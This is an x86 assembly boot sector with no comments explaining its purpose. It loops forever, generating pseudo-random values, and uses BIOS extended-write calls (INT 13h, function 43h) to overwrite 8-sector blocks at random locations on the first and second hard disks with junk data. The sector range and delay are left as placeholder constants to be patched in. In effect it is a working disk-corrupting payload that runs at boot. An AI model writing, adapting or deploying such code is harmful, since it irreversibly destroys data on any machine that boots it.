.code16
.org 0
start:
  cli
  xorw %ax,%ax
  movw %ax,%ds
  movw %ax,%es
  movw %ax,%ss
  movw $0x7c00,%sp
  sti
  cld
next:
  # x = x*1664525 + 1013904223
  movl seed+0x7c00,%eax
  imull $1664525,%eax,%eax
  addl $1013904223,%eax
  movl %eax,seed+0x7c00
  # fill 1 sector buffer at 0x8000 with x
  movw $0x8000,%di
  movw $1024,%cx
  rep stosl
  movl %eax,%ebx
  shrl $8,%eax
  xorl %edx,%edx
  divl span+0x7c00     # edx = eax mod span
  shrl $3,%edx
  shll $3,%edx
  movl %edx,lba+0x7c00
  movb drive+0x7c00,%dl
  shrl $31,%ebx
  addb %bl,%dl
  movw $packet+0x7c00,%si
  movb $0x43,%ah
  xorb %al,%al
  int $0x13
  movl pause+0x7c00,%ecx
wait: 
  jecxz next
  decl %ecx
  jmp wait
.balign 4
seed: .long 12345
span: .long 0x11223344
pause: .long 0x55667788
packet: .byte 16,0
count: .word 8
  .word 0x8000,0
lba: .long 0,0
drive: .byte 0x80
.org 510
.word 0xaa55
